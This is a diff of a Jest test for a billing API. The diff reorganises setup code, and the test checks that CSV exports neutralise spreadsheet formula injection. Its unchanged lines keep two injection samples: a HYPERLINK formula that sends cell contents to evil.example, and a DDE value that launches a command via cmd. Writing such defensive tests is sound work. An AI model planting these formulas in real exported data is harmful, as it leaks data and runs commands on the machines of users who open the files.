@@ -1,11 +1,8 @@
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
-import type { INestApplicationContext } from '@nestjs/common';
-import type { Queue } from 'bullmq';
 import { parse } from 'csv-parse/sync';
-import { DataSource } from 'typeorm';
-import { ADMIN, drained, producer, startApi, startWorker, uniqueQueueName, type TestApi } from './support/api.js';
+import { ADMIN, drained } from './support/api.js';
 import { createAccount, credit, eventId, usageEvent } from './support/factories.js';
-import { scratchDatabase } from './support/scratch.js';
+import { scratchStack, type Stack } from './support/stack.js';
 
 /**
  * A spreadsheet runs a cell that starts with = + - @ (and, in some, a tab or a carriage return)
@@ -17,21 +14,13 @@ const PAYLOAD = `HYPERLINK("http://evil.example/?x="&A1,"Click")`;
 const REFERENCE = `2+5+cmd|' /C calc'!A0`;
 
 // Its own database: the exports cover whole tables.
-const USAGE_QUEUE = uniqueQueueName();
-let scratch: Awaited<ReturnType<typeof scratchDatabase>>;
-let api: TestApi;
-let worker: INestApplicationContext;
-let queue: Queue;
-let db: DataSource;
+let stack: Stack;
 const cases: { starter: string; account: string; eventId: string; reference: string }[] = [];
 let plain: { account: string; eventId: string };
 
 beforeAll(async () => {
-  scratch = await scratchDatabase();
-  api = await startApi({ DATABASE_URL: scratch.url, USAGE_QUEUE });
-  worker = await startWorker({ DATABASE_URL: scratch.url, USAGE_QUEUE });
-  queue = producer(USAGE_QUEUE);
-  db = api.app.get(DataSource);
+  stack = await scratchStack();
+  const { api, queue } = stack;
   const events = [];
   for (const [i, starter] of STARTERS.entries()) {
     const { account_id } = await createAccount(api, { name: `${starter}${PAYLOAD}` });
@@ -51,15 +40,10 @@ beforeAll(async () => {
   await drained(queue);
   await api.http().post('/v1/invoices/generate').set(ADMIN).send({ period: '2026-11' }).expect(200);
 });
-afterAll(async () => {
-  await queue?.close();
-  await worker?.close();
-  await api?.close();
-  await scratch?.drop();
-});
+afterAll(() => stack?.close());
 
 async function csv(path: string): Promise<Record<string, string>[]> {
-  const res = await api.http().get(path).set(ADMIN).expect(200);
+  const res = await stack.api.http().get(path).set(ADMIN).expect(200);
   return parse(res.text, { columns: true });
 }
 
@@ -72,7 +56,7 @@ describe('CSV exports defuse formulas', () => {
       expect(row.event_id).toBe(`'${eventId}`);
     }
     expect(rows.find((r) => r.account_id === plain.account)!.event_id).toBe(plain.eventId);
-    const stored: { event_id: string; cost: string }[] = await db.query('SELECT event_id, trim_scale(cost)::text AS cost FROM usage_events ORDER BY occurred_at, event_id');
+    const stored: { event_id: string; cost: string }[] = await stack.db.query('SELECT event_id, trim_scale(cost)::text AS cost FROM usage_events ORDER BY occurred_at, event_id');
     expect(rows.map((r) => r.cost)).toEqual(stored.map((s) => s.cost));
     expect(rows.map((r) => r.cost)).toContain('0.00000541');
   });
@@ -85,7 +69,7 @@ describe('CSV exports defuse formulas', () => {
       expect(mine.find((r) => r.credit_kind === 'adjustment')).toMatchObject({ amount: '-0.5', balance_after: '1', reference: '' });
       expect(mine.find((r) => r.kind === 'usage')).toMatchObject({ amount: '-0.00000541', balance_after: '0.99999459' });
     }
-    const stored: { amount: string; balance_after: string }[] = await db.query('SELECT trim_scale(amount)::text AS amount, trim_scale(balance_after)::text AS balance_after FROM ledger_entries ORDER BY entry_id');
+    const stored: { amount: string; balance_after: string }[] = await stack.db.query('SELECT trim_scale(amount)::text AS amount, trim_scale(balance_after)::text AS balance_after FROM ledger_entries ORDER BY entry_id');
     expect(rows.map((r) => ({ amount: r.amount, balance_after: r.balance_after }))).toEqual(stored);
   });
 
@@ -102,7 +86,7 @@ describe('CSV exports defuse formulas', () => {
       expect(mine[0]).toMatchObject({ usage_total: '0.00000541', usage_total_rounded: '0.00', opening_balance: '0' });
     }
     const numbers = ['unit_price_per_million', 'amount', 'usage_total', 'usage_total_rounded', 'opening_balance', 'credits_total', 'closing_balance'];
-    const stored: Record<string, string>[] = await db.query(`
+    const stored: Record<string, string>[] = await stack.db.query(`
       SELECT trim_scale(l.unit_price_per_million)::text AS unit_price_per_million, trim_scale(l.amount)::text AS amount,
         trim_scale(i.usage_total)::text AS usage_total, i.usage_total_rounded::text AS usage_total_rounded,
         trim_scale(i.opening_balance)::text AS opening_balance, trim_scale(i.credits_total)::text AS credits_total,
